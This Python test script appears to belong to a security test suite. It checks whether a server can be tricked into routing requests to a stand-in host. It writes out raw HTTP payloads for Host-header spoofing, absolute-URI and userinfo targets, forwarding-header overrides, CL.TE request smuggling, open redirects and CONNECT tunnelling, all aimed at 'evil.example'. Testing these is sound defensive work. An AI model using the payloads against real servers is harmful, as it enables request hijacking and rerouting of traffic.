# Case 19: has what is meant for a binding's host sent to another one, by everything
# in a request that some server takes for a host.
from attempts import *
from masked import *

host, evil = BASE.removeprefix("http://"), "evil.example"


def raw(*lines, body=""):
    """What is answered, if it is not a refusal."""
    got = tcp(host, 80, ("\r\n".join(lines) + "\r\nConnection: close\r\n\r\n" + body).encode())
    status = got.split(b" ", 2)[1:2]
    return got if status and status[0][:1] in b"123" and b"evil" in got else None


attempt("another Host", lambda: raw("GET /v1/x HTTP/1.1", f"Host: {evil}"))
attempt("an absolute target", lambda: raw(f"GET http://{evil}/v1/x HTTP/1.1", f"Host: {host}"))
attempt("an absolute target by https", lambda: raw(f"GET https://{evil}/v1/x HTTP/1.1", f"Host: {host}"))
attempt("two Hosts", lambda: raw("GET /v1/x HTTP/1.1", f"Host: {host}", f"Host: {evil}"))
attempt("a Host folded", lambda: raw("GET /v1/x HTTP/1.1", f"Host: {host}", f" {evil}"))
attempt("a user in the target", lambda: raw(f"GET http://{host}@{evil}/v1/x HTTP/1.1", f"Host: {host}"))
attempt("two slashes", lambda: raw(f"GET //{evil}/v1/x HTTP/1.1", f"Host: {host}"))
attempt("CONNECT", lambda: raw(f"CONNECT {evil}:443 HTTP/1.1", f"Host: {evil}:443"))
attempt("CONNECT to the host itself", lambda: raw("CONNECT api.vault.example:443 HTTP/1.1", "Host: api.vault.example:443"))
for h in ("X-Forwarded-Host", "X-Host", "Forwarded", "X-Original-URL", "X-Rewrite-URL", "X-HTTP-Method-Override"):
    attempt(h, lambda h=h: raw("GET /v1/x HTTP/1.1", f"Host: {host}", f"{h}: {evil}"))
attempt("a second request in the first one's body", lambda: raw("POST /v1/x HTTP/1.1", f"Host: {host}", "Content-Length: 4", "Transfer-Encoding: chunked", body=f"0\r\n\r\nGET /v1/x HTTP/1.1\r\nHost: {evil}\r\n\r\n"))
attempt("a redirect", lambda: curl("-L", "--max-redirs", "3", f"{BASE}/v1/moved?to=http://{evil}/"))
attempt("a redirect that keeps the method", lambda: curl("-L", "--max-redirs", "3", "-d", "x", f"{BASE}/v1/moved?to=https://{evil}/"))
attempt("an upgrade", lambda: raw("GET /v1/x HTTP/1.1", f"Host: {host}", "Upgrade: websocket", "Sec-WebSocket-Key: x3JJHMbDL1EzLkh9GBhXDw==", "Sec-WebSocket-Version: 13"))
attempt("other ports", lambda: [tcp(host, p) for p in (443, 8080, 22)])
attempt("the variable's value to another host", lambda: curl("-H", f"Host: {host}", f"http://{evil}/v1/x"))
